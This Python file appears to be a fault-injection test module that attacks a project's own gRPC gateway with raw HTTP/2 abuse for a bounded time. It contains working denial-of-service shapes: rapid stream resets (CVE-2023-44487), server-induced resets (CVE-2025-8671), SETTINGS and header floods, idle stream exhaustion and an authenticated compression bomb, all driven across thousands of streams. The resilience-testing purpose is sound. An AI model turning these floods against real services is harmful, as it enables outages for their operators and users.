"""Clients of the gRPC port that mean no good: streams reset as fast as they open, thousands held open, frames that cost much by little.

Raw HTTP/2, in a process of its own: `python -m tests.faults.rpc_strangers HOST:PORT SHAPE SECONDS [TOKEN]`. Bounded: it ends with its
time, and prints `come` and then how many streams or frames it sent. TOKEN is what the shapes of a producer that turned bad need.
"""

import asyncio
import os
import struct
import sys
import time
import zlib
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass, field
from functools import cache

from tests.gateway.doors.rpc.raw_http2 import Http2, frame, headers, message

__all__ = ["CONNECTIONS", "SHAPES", "STREAMS"]

CONNECTIONS = 40
STREAMS = 250
"""So many on each connection: 10,000 in all."""

_PUBLISH = b"/tidegate.ingest.v1.IngestService/Publish"
_STREAM = b"/tidegate.ingest.v1.IngestService/PublishStream"
_WATCH = b"/grpc.health.v1.Health/Watch"
_RESET = (8).to_bytes(4, "big")
_A_BURST = 50
_MOST = 20_000
"""Times that a connection sends what it repeats."""
_BOMBS = 200
_FEW = 4
"""Connections of a producer that turned bad: whoever has a token and forty of them loads a gateway by good events, too."""
_DRAIN_S = 1.0
_KNOWN_S = 5.0
_FIELD = bytes([0x80 | 21])  # one byte, 35 bytes as HTTP/2 counts: `age`, without a value


@dataclass(frozen=True)
class Means:
    """What a stranger has beside its connection: a producer's token, and whether the windows are a producer's by now."""

    token: bytes
    wider: asyncio.Event = field(default_factory=asyncio.Event)

    def hears(self, kind: int, _flags: int, stream: int) -> bool:
        """Told of each frame that the gateway sends; False: there may be more."""
        if kind == 8 and not stream:
            self.wider.set()
        return False


Shape = Callable[[Http2, float, Means], Awaitable[int]]


async def _pour(
    connection: Http2, ends_s: float, repeated: Callable[[int], bytes], burst: int = _A_BURST, most: int = _MOST
) -> int:
    """The same again and again, as fast as it is taken; how often."""
    sent = 0
    while time.monotonic() < ends_s and sent < most and not connection.writer.is_closing():
        connection.send(*(repeated(place) for place in range(sent, sent + burst)))
        sent += burst
        with suppress(TimeoutError):
            async with asyncio.timeout(_DRAIN_S):
                await connection.writer.drain()
        await asyncio.sleep(0)
    return sent


async def resets(connection: Http2, ends_s: float, _means: Means) -> int:
    """HEADERS and RST_STREAM, again and again (CVE-2023-44487)."""
    head = headers(_PUBLISH)
    return await _pour(
        connection, ends_s, lambda place: frame(1, 4, 2 * place + 1, head) + frame(3, 0, 2 * place + 1, _RESET)
    )


async def made(connection: Http2, ends_s: float, _means: Means) -> int:
    """Streams that the server is made to reset (CVE-2025-8671): windows of nothing and past all, frames behind the end, a wrong length."""
    head, long = headers(_STREAM), headers(_STREAM, (b"content-length", b"5"))
    kinds: tuple[Callable[[int], bytes], ...] = (
        lambda number: frame(1, 4, number, head) + frame(8, 0, number, bytes(4)),
        lambda number: frame(1, 4, number, head) + frame(8, 0, number, b"\x7f\xff\xff\xff"),
        lambda number: frame(1, 5, number, head) + frame(1, 5, number, head),
        lambda number: frame(1, 5, number, head) + frame(0, 0, number, b"x"),
        lambda number: frame(1, 4, number, long) + frame(0, 1, number, b"x"),
        lambda number: frame(1, 4, number, head) + frame(2, 0, number, number.to_bytes(4, "big") + b"\0"),
    )
    return await _pour(connection, ends_s, lambda place: kinds[place % len(kinds)](2 * place + 1))


async def streams(connection: Http2, ends_s: float, _means: Means) -> int:
    """Streams that are opened and then say nothing."""
    for place in range(STREAMS):
        connection.send(frame(1, 4, 2 * place + 1, headers(_STREAM)))
    await connection.writer.drain()
    await asyncio.sleep(max(0.0, ends_s - time.monotonic()))
    return STREAMS


async def paths(connection: Http2, ends_s: float, _means: Means) -> int:
    """Calls of methods whose name is not UTF-8, which ended grpcio's own server."""
    head = headers(b"/\xff\xfe/x")
    return await _pour(
        connection, ends_s, lambda place: frame(1, 4, 2 * place + 1, head) + frame(0, 1, 2 * place + 1, message(b""))
    )


async def windows(connection: Http2, ends_s: float, _means: Means) -> int:
    """Open streams, and frames of 2,700 settings that each change the window of all of them."""
    for place in range(STREAMS):
        connection.send(frame(1, 4, 2 * place + 1, headers(_WATCH)))
    many = frame(4, 0, 0, b"".join(struct.pack(">HL", 4, 65_535 + place % 2) for place in range(2_700)))
    return await _pour(connection, ends_s, lambda _: many, 4)


async def fields(connection: Http2, ends_s: float, _means: Means) -> int:
    """Heads of 880 fields in a kilobyte, no two the same; and some past what a head may hold, after which it comes again."""
    head = headers(_STREAM)
    return await _pour(
        connection,
        ends_s,
        lambda place: frame(1, 5, 2 * place + 1, head + _FIELD * ((880 if place % 16 else 1_700) - place % 7)),
    )


async def frames(connection: Http2, ends_s: float, _means: Means) -> int:
    """Frames that want no answer, of all kinds; DATA byte by byte."""
    connection.send(frame(1, 4, 1, headers(_WATCH)), frame(0, 0, 1, b"\0\0\0\xea\x60"))
    all_kinds = (
        frame(4, 1, 0) + frame(6, 1, 0, bytes(8)) + frame(2, 0, 1, bytes(5)) + frame(0x55, 0, 0) + frame(0, 0, 1, b"x")
        + frame(0, 0, 1) + frame(8, 0, 0, b"\0\0\0\1")
    )  # fmt: skip
    return await _pour(connection, ends_s, lambda _: all_kinds)


async def bombs(connection: Http2, ends_s: float, means: Means) -> int:
    """A good token, and in every call eight megabytes of nothing in as many kilobytes; as many as its windows take."""
    head = headers(_PUBLISH, (b"grpc-encoding", b"deflate")) + _long(b"authorization", b"Bearer " + means.token)
    bomb = _bomb()

    def one(place: int) -> bytes:
        return frame(1, 4, 2 * place + 1, head) + frame(0, 1, 2 * place + 1, bomb)

    connection.send(one(0))
    async with asyncio.timeout(_KNOWN_S):
        await means.wider.wait()
    sent = await _pour(connection, ends_s, lambda place: one(place + 1), 5, _BOMBS)
    await asyncio.sleep(max(0.0, ends_s - time.monotonic()))
    return sent


@cache
def _bomb() -> bytes:
    return message(zlib.compress(bytes(8_000_000), 9), compressed=True)


def _long(name: bytes, value: bytes) -> bytes:
    """A field whose value has 127 to 16,510 bytes (RFC 7541, section 5.1)."""
    more = len(value) - 127
    return b"\0" + bytes([len(name)]) + name + bytes([127, more & 127 | 128, more >> 7]) + value


SHAPES: dict[str, Shape] = {
    one.__name__: one for one in (resets, made, streams, paths, windows, fields, frames, bombs)
}  # fmt: skip


async def crowd(address: str, shape: str, lasting_s: float, token: bytes) -> int:
    """Every connection for as long, coming again when it was let go."""
    ends_s = time.monotonic() + lasting_s

    async def stranger() -> int:
        sent = 0
        while time.monotonic() < ends_s:
            means = Means(token)
            with suppress(OSError):  # TimeoutError is one
                connection = await Http2.open(address)
                reading = asyncio.create_task(connection.frames(means.hears, lasting_s + 5))
                reading.add_done_callback(lambda _, writer=connection.writer: writer.close())  # type: ignore[misc]
                try:
                    sent += await SHAPES[shape](connection, ends_s, means)
                finally:
                    reading.cancel()
                    connection.writer.transport.abort()
            await asyncio.sleep(0.05)
        return sent

    return sum(await asyncio.gather(*(stranger() for _ in range(_FEW if shape == "bombs" else CONNECTIONS))))


if __name__ == "__main__":
    os.nice(19)  # what is measured is the gateway beside them, not who gets the processor
    print("come", flush=True)
    print(asyncio.run(crowd(sys.argv[1], sys.argv[2], float(sys.argv[3]), "".join(sys.argv[4:5]).encode())))
